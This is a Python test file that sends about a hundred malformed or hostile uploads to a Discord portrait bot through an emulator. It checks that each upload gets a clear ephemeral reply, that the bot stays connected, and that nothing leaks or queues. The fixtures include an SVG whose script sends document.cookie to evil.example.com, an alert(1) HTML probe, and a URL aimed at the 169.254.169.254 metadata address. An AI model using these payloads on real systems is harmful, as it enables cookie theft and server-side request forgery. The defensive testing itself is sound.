"""Every broken, hostile or awkward upload gets a clear answer, and none of them hurts the bot.

About a hundred files go through ``/portrait photo:`` against ONE running bot (the real discord.py,
through the local Discord emulator): the hostile image corpus of tests/generation plus the ones built
here (documents and executables posing as photos, damaged selfies, bombs, lying sizes and hosts,
faces too many or too small, ...). For each one this proves that the person gets an ephemeral message
that is neither empty nor the generic "Something went wrong" apology (which only a crash path
sends), that the bot is still connected (no new IDENTIFY) and answers ``/help`` right after, and at
the end that no temporary file was left behind, no job was queued, and Discord's rules were kept
(``emu.violations == []``). The figures (files tried, clear messages, crashes) are printed and
recorded as test properties.
"""

from __future__ import annotations

import importlib.util
import io
import mimetypes
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np
from fake_generator import FastGenerator
from harness import photo, run, text_of, world
from PIL import Image
from reliability_kit import ROOT, store_temp_files, system_temp_entries

from bot.flows import SORRY

STORAGE_APOLOGY = "My storage is having a problem"
EXTRA_TYPES = {".heic": "image/heic", ".webp": "image/webp", ".svg": "image/svg+xml"}


@dataclass(frozen=True)
class Upload:
    name: str
    filename: str
    data: bytes
    content_type: str | None = None  # None: what Discord derives from the file name
    size: int | None = None  # a declared size that differs from the bytes
    url: str | None = None  # a URL off Discord's CDN
    expect: tuple[str, ...] = ()  # words the answer must contain (case-insensitive), when it is that specific

    def attachment(self, emu: Any) -> dict[str, Any]:
        ctype = self.content_type or _content_type(self.filename)
        return emu.attachment(self.data, self.filename, ctype, size=self.size, url=self.url)


def _content_type(filename: str) -> str:
    suffix = Path(filename).suffix.lower()
    return EXTRA_TYPES.get(suffix) or mimetypes.guess_type(filename)[0] or "application/octet-stream"


def _load_hostile_corpus() -> Any:
    path = ROOT / "tests" / "generation" / "hostile_images.py"
    module = sys.modules.get("hostile_images")
    if module is None:
        spec = importlib.util.spec_from_file_location("hostile_images", path)
        assert spec is not None and spec.loader is not None
        module = importlib.util.module_from_spec(spec)
        sys.modules["hostile_images"] = module  # dataclasses look their module up while the file runs
        spec.loader.exec_module(module)
    return module.build_corpus()


# ---------------------------------------------------------------------------------- files made here


def _encode(image: Image.Image, fmt: str, **params: Any) -> bytes:
    out = io.BytesIO()
    image.save(out, format=fmt, **params)
    return out.getvalue()


def _face(name: str = "obama.jpg") -> Image.Image:
    """A selfie at 640 px: the face check takes a fraction of the full photo's seconds on 2 cores."""
    face = Image.open(io.BytesIO(photo(name))).convert("RGB")
    face.thumbnail((640, 640))
    return face


def _zip_of(name: str, data: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(name, data)
    return out.getvalue()


def _flip_middle(data: bytes, span: int = 64) -> bytes:
    middle = len(data) // 2
    return data[:middle] + bytes(b ^ 0xFF for b in data[middle:middle + span]) + data[middle + span:]


def _exif_rotated_face() -> bytes:
    """The selfie stored lying on its side, with the EXIF tag that turns it upright (as phones do)."""
    exif = Image.Exif()
    exif[0x0112] = 6  # rotate 90° clockwise to display
    return _encode(_face().transpose(Image.Transpose.ROTATE_90), "JPEG", quality=92, exif=exif.tobytes())


def _many_faces() -> bytes:
    faces = [_face(name) for name in ("obama.jpg", "biden.jpg", "obama2.jpg")]
    height = min(f.height for f in faces)
    faces = [f.resize((round(f.width * height / f.height), height)) for f in faces]
    canvas = Image.new("RGB", (sum(f.width for f in faces), height), (200, 200, 200))
    x = 0
    for f in faces:
        canvas.paste(f, (x, 0))
        x += f.width
    return _encode(canvas, "JPEG", quality=90)


def _tiny_face() -> bytes:
    """A whole selfie shrunk to a quarter in a large empty frame: found, but too small to keep a likeness."""
    face = Image.open(io.BytesIO(photo())).convert("RGB")
    canvas = Image.new("RGB", (1600, 1200), (120, 130, 140))
    canvas.paste(face.resize((face.width // 4, face.height // 4)), (700, 400))
    return _encode(canvas, "JPEG", quality=90)


def _no_face() -> bytes:
    x = np.linspace(0, 255, 800, dtype=np.float32)[None, :]
    y = np.linspace(0, 255, 600, dtype=np.float32)[:, None]
    pixels = np.stack([np.broadcast_to(x, (600, 800)), np.broadcast_to(y, (600, 800)),
                       np.full((600, 800), 90, np.float32)], axis=-1).astype(np.uint8)
    return _encode(Image.fromarray(pixels), "JPEG", quality=90)


def _animated_face_gif() -> bytes:
    face = _face().resize((160, 200))
    return _encode(face, "GIF", save_all=True, append_images=[face.rotate(10), face.rotate(-10)], duration=80, loop=0)


def _sixteen_bit_face_png() -> bytes:
    grey = np.asarray(_face().convert("L"), dtype=np.uint16) * 257
    image = Image.fromarray(grey.astype(np.uint16))  # mode I;16
    assert image.mode == "I;16"
    return _encode(image, "PNG")


SVG_WITH_SCRIPT = (b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" '
                   b'xmlns:xlink="http://www.w3.org/1999/xlink" width="400" height="400">'
                   b'<script type="text/javascript">fetch("https://evil.example.com/?c="+document.cookie)</script>'
                   b'<image xlink:href="https://evil.example.com/face.jpg" width="400" height="400"/></svg>')
PDF = (b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >>"
       b" endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n")
HTML = b"<!DOCTYPE html><html><head><title>selfie</title></head><body><script>alert(1)</script></body></html>"
ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + bytes(4000)
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(48) + \
    b"This program cannot be run in DOS mode.\r\r\n$" + bytes(4000)


def extra_uploads() -> list[Upload]:
    face = _face()
    face_jpeg = _encode(face, "JPEG", quality=90)
    face_png = _encode(face, "PNG", compress_level=1)
    face_webp = _encode(face, "WEBP", quality=80)
    bomb = _encode(Image.new("1", (8000, 8000)), "PNG", optimize=True)  # 64 megapixels in a few kB
    made: list[tuple[str, str, Callable[[], bytes], dict[str, Any]]] = [
        # documents, archives and programs posing as photos (or honestly named)
        ("pdf_document", "selfie.pdf", lambda: PDF, {}),
        ("pdf_claiming_jpeg", "selfie.jpg", lambda: PDF, {"content_type": "image/jpeg", "expect": ("PDF",)}),
        ("zip_archive", "photos.zip", lambda: _zip_of("selfie.jpg", face_jpeg), {}),
        ("zip_claiming_jpeg", "selfie.jpg", lambda: _zip_of("selfie.jpg", face_jpeg), {"content_type": "image/jpeg"}),
        ("html_page", "selfie.html", lambda: HTML, {}),
        ("html_claiming_png", "selfie.png", lambda: HTML, {"content_type": "image/png"}),
        ("plain_text", "notes.txt", lambda: b"just some notes\n" * 40, {"expect": ("isn't a photo",)}),
        ("elf_executable_claiming_jpeg", "selfie.jpg", lambda: ELF, {"content_type": "image/jpeg"}),
        ("windows_exe", "selfie.exe", lambda: EXE, {"content_type": "application/vnd.microsoft.portable-executable"}),
        ("windows_exe_claiming_jpeg", "selfie.jpg", lambda: EXE, {"content_type": "image/jpeg"}),
        ("svg_with_script", "selfie.svg", lambda: SVG_WITH_SCRIPT, {"expect": ("SVG",)}),
        # damaged real selfies
        ("face_jpeg_truncated_half", "selfie.jpg", lambda: face_jpeg[: len(face_jpeg) // 2], {}),
        ("face_jpeg_corrupt_middle", "selfie.jpg", lambda: _flip_middle(face_jpeg, 4096), {}),
        ("face_png_corrupt_idat", "selfie.png", lambda: _flip_middle(face_png), {}),
        ("face_png_truncated", "selfie.png", lambda: face_png[: len(face_png) * 2 // 3], {}),
        ("face_webp_truncated", "selfie.webp", lambda: face_webp[: len(face_webp) * 2 // 3], {}),
        ("zero_bytes_png", "selfie.png", lambda: b"", {"expect": ("empty",)}),
        ("one_pixel_webp", "dot.webp", lambda: _encode(Image.new("RGB", (1, 1), (9, 9, 9)), "WEBP"), {}),
        # sizes and hosts that lie
        ("huge_declared_size", "huge.jpg", lambda: face_jpeg, {"size": 200 * 1024 * 1024, "expect": ("MB",)}),
        ("declared_small_sent_huge", "selfie.jpg", lambda: face_jpeg + bytes(26 * 1024 * 1024),
         {"size": len(face_jpeg), "expect": ("MB",)}),
        ("png_bomb_64_megapixels", "selfie.png", lambda: bomb, {}),
        ("foreign_host_url", "selfie.jpg", lambda: face_jpeg,
         {"url": "https://evil.example.com/selfie.jpg", "expect": ("Discord",)}),
        ("lookalike_cdn_host_url", "selfie.jpg", lambda: face_jpeg,
         {"url": "https://cdn.discordapp.com.evil.example.com/attachments/1/2/selfie.jpg", "expect": ("Discord",)}),
        ("plain_http_cdn_url", "selfie.jpg", lambda: face_jpeg,
         {"url": "http://cdn.discordapp.com/attachments/1/2/selfie.jpg", "expect": ("Discord",)}),
        ("internal_address_url", "selfie.jpg", lambda: face_jpeg,
         {"url": "https://169.254.169.254/latest/meta-data/selfie.jpg", "expect": ("Discord",)}),
        # images that decode but are awkward
        ("animated_gif_of_a_face", "selfie.gif", _animated_face_gif, {}),
        ("cmyk_face_jpeg", "selfie.jpg", lambda: _encode(face.convert("CMYK"), "JPEG", quality=90), {}),
        ("sixteen_bit_face_png", "selfie.png", _sixteen_bit_face_png, {}),
        ("face_jpeg_named_png", "selfie.png", lambda: face_jpeg, {"content_type": "image/png"}),
        ("face_png_named_gif", "selfie.gif", lambda: face_png, {"content_type": "image/gif"}),
        ("face_jpeg_as_octet_stream", "selfie.bin", lambda: face_jpeg, {"content_type": "application/octet-stream"}),
        ("face_jpeg_no_extension", "selfie", lambda: face_jpeg, {}),
        ("face_jpeg_with_zip_appended", "selfie.jpg", lambda: face_jpeg + _zip_of("x.txt", b"polyglot"), {}),
        ("exif_rotated_face", "selfie.jpg", _exif_rotated_face, {}),
        ("no_face", "landscape.jpg", _no_face, {"expect": ("face",)}),
        ("many_faces", "group.jpg", _many_faces, {"expect": ("more than one",)}),
        ("face_too_small", "far-away.jpg", _tiny_face, {"expect": ("small",)}),
    ]
    return [Upload(name, filename, build(), **options) for name, filename, build, options in made]


def corpus_uploads() -> list[Upload]:
    uploads = []
    for case in _load_hostile_corpus():
        if case.skip_reason is not None:
            continue
        # The loader's own words are what the person reads, unless the bot turned the file away by its
        # Discord content type first (then it says so in its own words) or the case needs loader options.
        ctype = _content_type(case.filename)
        specific = case.error is not None and ctype.startswith("image/") and not case.load_kwargs
        uploads.append(Upload(f"corpus:{case.name}", case.filename, case.data,
                              expect=case.message_contains if specific else ()))
    return uploads


# ---------------------------------------------------------------------------------- the test


def _reply(inter: Any) -> dict[str, Any] | None:
    """The first ephemeral message of this interaction with something to read."""
    return next((m for m in inter.messages() if m.get("_ephemeral") and text_of(m).strip()), None)


def test_every_bad_upload_gets_a_clear_message_and_the_bot_survives(
        tmp_path: Path, record_property: Callable[[str, Any], None]) -> None:
    uploads = corpus_uploads() + extra_uploads()
    assert len(uploads) >= 30
    generator = FastGenerator()
    temp_before = system_temp_entries()
    outcomes: dict[str, str] = {}
    problems: list[str] = []

    async def body() -> None:
        async with world(tmp_path, generator) as w:
            emu = w.emu
            identifies = emu.gateway.identify_count
            sent = []
            for upload in uploads:
                inter = await w.slash(w.alice, "portrait", {"photo": upload.attachment(emu)})
                sent.append((upload, inter))
                try:
                    answer = await inter.wait_for(_reply, 30, f"an answer to {upload.name}")
                except TimeoutError:
                    outcomes[upload.name] = "crash"
                    problems.append(f"{upload.name}: no answer at all")
                    continue
                shown = text_of(answer)
                if SORRY in shown or STORAGE_APOLOGY in shown:
                    outcomes[upload.name] = "crash"
                    problems.append(f"{upload.name}: {shown!r}")
                elif upload.expect and not all(word.lower() in shown.lower() for word in upload.expect):
                    outcomes[upload.name] = "vague"
                    problems.append(f"{upload.name}: expected {upload.expect} in {shown!r}")
                else:
                    outcomes[upload.name] = "clear"
                # Still connected and still answering: /help right after every file.
                helped = await w.slash(w.alice, "help")
                await helped.wait_message(lambda m: "portraits that look like you" in text_of(m), timeout=15)
                if w.tasks[-1].done() or w.bot.is_closed() or emu.gateway.identify_count != identifies:
                    problems.append(f"{upload.name}: the bot disconnected or stopped")
            # Nothing arrived late either: no apology anywhere, nothing queued, no rule broken.
            for upload, inter in sent:
                for message in inter.messages():
                    if SORRY in text_of(message):
                        outcomes[upload.name] = "crash"
                        problems.append(f"{upload.name}: a late apology")
            assert generator.seen == [], "a bad upload reached the generator"
            assert emu.violations == [], emu.violations
            assert emu.unexpected == [], emu.unexpected
            assert await w.bot.queue.jobs_for(str(w.alice.id)) == []

    try:
        run(body, timeout=600)
    finally:
        leftovers = store_temp_files(tmp_path)
        new_temp = sorted(system_temp_entries() - temp_before)
        tried = len(outcomes)
        clear = sum(1 for o in outcomes.values() if o == "clear")
        crashes = sum(1 for o in outcomes.values() if o == "crash")
        print(f"\nbad input corpus: {tried} files tried, {clear} clear messages, {crashes} crashes, "
              f"{tried - clear - crashes} vague; temp files left: {len(leftovers) + len(new_temp)}")
        record_property("files_tried", tried)
        record_property("clear_messages", clear)
        record_property("crashes", crashes)
    assert not problems, "\n".join(problems)
    assert crashes == 0 and clear == tried == len(uploads)
    assert leftovers == [] and new_temp == [], (leftovers, new_temp)
